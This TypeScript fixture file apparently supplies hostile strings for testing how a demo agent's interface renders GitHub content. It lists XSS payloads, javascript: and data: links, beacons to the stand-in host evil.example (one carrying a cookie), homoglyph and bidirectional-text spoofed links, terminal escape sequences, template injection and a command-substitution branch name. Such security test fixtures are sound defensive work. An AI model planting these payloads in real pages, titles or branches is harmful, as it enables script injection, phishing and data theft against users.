/**
 * What somebody may want an agent, a repository or a person at GitHub to say. Each one that would run sets `window.owned`
 * or asks for something at `evil.example`.
 */
const RUNS = 'window.owned=1';
const RLO = '\u202e';
const ZERO_WIDTH = '\u200b';
const CYRILLIC_I = '\u0456';

const tags = [
  `<script>${RUNS}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${RUNS}">`,
  `<img src="https://evil.example/beacon.png">`,
  `<svg onload="${RUNS}"></svg>`,
  `<svg><script>${RUNS}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUNS}'/>#x"/></svg>`,
  `<svg><foreignObject><body onload="${RUNS}"></foreignObject></svg>`,
  `<math><mtext><img src=x onerror="${RUNS}"></mtext></math>`,
  `<iframe src="javascript:parent.owned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<video><source onerror="${RUNS}"></video>`,
  `<audio src="https://evil.example/a.mp3" autoplay></audio>`,
  `<details open ontoggle="${RUNS}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${RUNS}">`,
  `<form action="https://evil.example"><button>Sign in with GitHub</button></form>`,
  `<a href="javascript:${RUNS}">Sign in</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel="prefetch" href="https://evil.example/p">`,
  `<template><script>${RUNS}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>"></noscript>`,
  `<!--><img src=x onerror="${RUNS}">-->`,
  `<marquee onstart="${RUNS}">x</marquee>`,
  `<portal src="https://evil.example"></portal>`,
  `<x style="position:fixed;inset:0;z-index:99999;background:red">over everything</x>`,
  `<div style="position:fixed;inset:0;z-index:99999;opacity:0"><a href="https://evil.example">x</a></div>`,
  `<style>*{display:none!important}</style>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>body{background:url(https://evil.example/css)}</style>`,
  `<p id="root" class="hidden fixed inset-0 bg-danger">clobbered</p>`,
  `<a name="__proto__" id="location">clobbered</a>`,
];

const links = [
  `[a](javascript:${RUNS})`,
  `[b](JaVaScRiPt:${RUNS})`,
  `[c](java\tscript:${RUNS})`,
  `[d](&#106;avascript:${RUNS})`,
  `[e](javascript&colon;${RUNS})`,
  `[f](<javascript:${RUNS}>)`,
  `[g](vbscript:msgbox)`,
  `[h](data:text/html,<script>${RUNS}</script>)`,
  `[i](data:text/html;base64,PHNjcmlwdD50b3Aub3duZWQ9MTwvc2NyaXB0Pg==)`,
  `[j](blob:https://evil.example/1)`,
  `[k](file:///etc/passwd)`,
  `[l](view-source:https://evil.example)`,
  `[m](//evil.example/protocol-relative)`,
  `[n](\\\\evil.example\\share)`,
  `[o](/v1/auth/sign-out)`,
  `[p](?session=other)`,
  `[q](#root)`,
  `[r][ref]\\n\\n[ref]: javascript:${RUNS}`,
  `<javascript:${RUNS}>`,
  `[s](https://evil.example "onmouseover=${RUNS}")`,
  `[t](https://evil.example/"onmouseover="${RUNS})`,
  `[https://github.com/harbour-goods](https://evil.example/1)`,
  `[github.com](https://github.com@evil.example/2)`,
  `[github.com](https://github.com%2f@evil.example/3)`,
  `[github.com](https://github.com.evil.example/4)`,
  `[github.com](https://g${CYRILLIC_I}thub.com/5)`,
  `[github.com](https://github.com${ZERO_WIDTH}.evil.example/6)`,
  `[github.com](https://github\u2024com/7)`,
  `[moc.elpmaxe.live${RLO}](https://evil.example/8)`,
  `[${RLO}moc.buhtig](https://evil.example/9)`,
  `[\u2066github.com\u2069 \u2067](https://evil.example/10)`,
  `[ ](https://evil.example/11)`,
  `[${ZERO_WIDTH}](https://evil.example/12)`,
  `[x](https://${'a'.repeat(200)}.evil.example/13)`,
  `[x](https://evil.example/${'b'.repeat(2_000)})`,
  `https://evil.example/autolink`,
  `www.evil.example`,
  `mallory@evil.example`,
  `[call](tel:+1900)`,
  `[^1]\\n\\n[^1]: [x](javascript:${RUNS})`,
];

const pictures = [
  `![](https://evil.example/beacon.gif?cookie)`,
  `![x](javascript:${RUNS})`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5vd25lZD0xIi8+)`,
  `![x](https://evil.example/b.png "title")`,
  `![x][pic]\\n\\n[pic]: https://evil.example/ref.png`,
  `[![x](https://evil.example/in.png)](https://evil.example/14)`,
  `![x](/v1/app)`,
  `![" onerror="${RUNS}](x)`,
];

const texts = [
  `${RLO}reversed until the end of the line`,
  `\u2067isolated and never closed`,
  `${ZERO_WIDTH.repeat(500)}nothing to see`,
  `Z${'\u0300\u0301\u0302'.repeat(300)}algo`,
  `\ufdfd`.repeat(200),
  `\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007github.com\u001b]8;;\u0007 \u001b[2J\u001b[H`,
  `# @mira-okafor became the owner. Commits and pushes use @mira-okafor from here.`,
  `{{constructor.constructor('${RUNS}')()}} \${${RUNS}} <%= ${RUNS} %>`,
  `\`\`\`html\\n<script>${RUNS}</script>\\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUNS}>\\ntext\\n\`\`\``,
  `| a | b |\\n|---|---|\\n| <img src=x onerror=${RUNS}> | [x](javascript:${RUNS}) |`,
  `- [x] <b onmouseover=${RUNS}>task</b>`,
  `$$\\href{javascript:${RUNS}}{x}$$`,
  `:::style{position=fixed}\\n:::`,
  `${'>'.repeat(200)} deep`,
  'W'.repeat(20_000),
  '*a '.repeat(1_500),
  `\`\`\`mermaid\\ngraph LR; A-->B; click A "javascript:${RUNS}"\\n\`\`\``,
];

/** For `say` of the demo agent: `\n` stands for the end of a line. */
export const SAID: readonly string[] = [...tags, ...links, ...pictures, ...texts];

/** For command lines and what they print; single quotes keep a shell from reading them. */
export const PRINTED: readonly string[] = [
  String.raw`printf '\033[31mred\033]0;owned\007\033]8;;https://evil.example\007github.com\033]8;;\007\n'`,
  `echo '<script>${RUNS}</script><img src=x onerror="${RUNS}">'`,
  `head -c 300000 /dev/zero | tr '\\0' W`,
  `printf '%s\\n' '${RLO}reversed' '${ZERO_WIDTH}'`,
  `true '<svg onload=${RUNS}>' # ${RLO}`,
];

/** Paths and text of files that an agent writes. */
export const WRITTEN: readonly string[] = [
  `<img src=x onerror=${RUNS}>.html: <script>${RUNS}</script>`,
  `notes/${RLO}gpj.exe: ${RLO}reversed`,
  `notes/page.svg: <svg xmlns="http://www.w3.org/2000/svg" onload="${RUNS}"/>`,
  `notes/read.md: [x](javascript:${RUNS}) <img src=x onerror=${RUNS}>`,
  `notes/long.txt: ${'L'.repeat(5_000)}`,
];

/** For titles at GitHub, which are of 256 characters at most. */
export const TITLES: readonly string[] = [
  `<script>${RUNS}</script>`,
  `<img src=x onerror="${RUNS}">`,
  `"><svg onload=${RUNS}>`,
  `</title><script>${RUNS}</script>`,
  `[Sign in](javascript:${RUNS})`,
  `${RLO}reversed title`,
  `${ZERO_WIDTH}hidden${ZERO_WIDTH}`,
  'W'.repeat(256),
  `<style>*{display:none}</style>`,
  `\u001b[31mred\u001b[0m`,
  `\${${RUNS}} {{${RUNS}}}`,
];

/** Names of branches, as far as git takes them. */
export const BRANCHES: readonly string[] = [
  `<img/src=x/onerror=${RUNS}>`,
  `"><svg/onload=${RUNS}>`,
  `${RLO}reversed`,
  `$(touch,owned)`,
];

export const LOGIN = `"><img src=x onerror=${RUNS}>`;
